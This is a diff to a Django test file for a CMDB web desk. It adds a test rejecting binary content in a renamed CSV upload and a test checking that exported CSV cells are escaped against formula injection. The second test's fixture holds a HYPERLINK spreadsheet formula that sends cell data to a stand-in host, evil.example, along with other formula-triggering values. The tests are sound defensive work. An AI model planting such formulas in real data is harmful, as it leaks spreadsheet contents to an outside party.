@@ -1,5 +1,7 @@
 """Agent desk pages: list (constant queries), detail, schema-driven forms, import, export."""
 
+import csv
+import io
 import json
 
 import pytest
@@ -147,6 +149,13 @@ def test_import_refuses_other_file_types(desk):
     assert response.status_code == 400 and not ImportJob.objects.exists()
 
 
+def test_import_refuses_binary_content_renamed_csv(desk):
+    upload = SimpleUploadedFile("cis.csv", b"ci_class,name\nserver,a\x00b\n", content_type="text/csv")
+    response = desk.post(reverse("cmdb:import"), {"kind": "cis", "file": upload})
+    assert response.status_code == 400 and not ImportJob.objects.exists()
+    assert "The file is not text: it holds binary content." in response.content.decode()
+
+
 def test_export_filtered_list_as_csv_and_json(desk):
     make_ci("esx-1", "server", attributes={"cpu_count": 4})
     make_ci("db-1", "database", attributes={"engine": "oracle"})
@@ -198,3 +207,15 @@ def test_detail_page_draws_peer_links_but_does_not_count_them_as_impact(desk, es
     assert "esx-01" in impact and "sw-core-02" not in impact
     panel = desk.get(reverse("cmdb:ci_detail", args=[peer.pk]), {"panel": "services"}, HTTP_HX_REQUEST="true")
     assert "Payroll" not in panel.content.decode()
+
+
+def test_export_csv_cells_are_never_formulas(desk):
+    # given: a CI whose name and tags a spreadsheet would run as formulas
+    make_ci('=HYPERLINK("http://evil.example/?"&A1,"open")', "server", tags=["@SUM(1)", "ok"], location="+1")
+    # when
+    response = desk.get(reverse("cmdb:export"), {"format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode().lstrip("\ufeff"))))
+    # then: each is quoted so the spreadsheet shows it as text
+    assert rows[0]["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert rows[0]["tags"] == "'@SUM(1);ok"
+    assert rows[0]["location"] == "'+1"
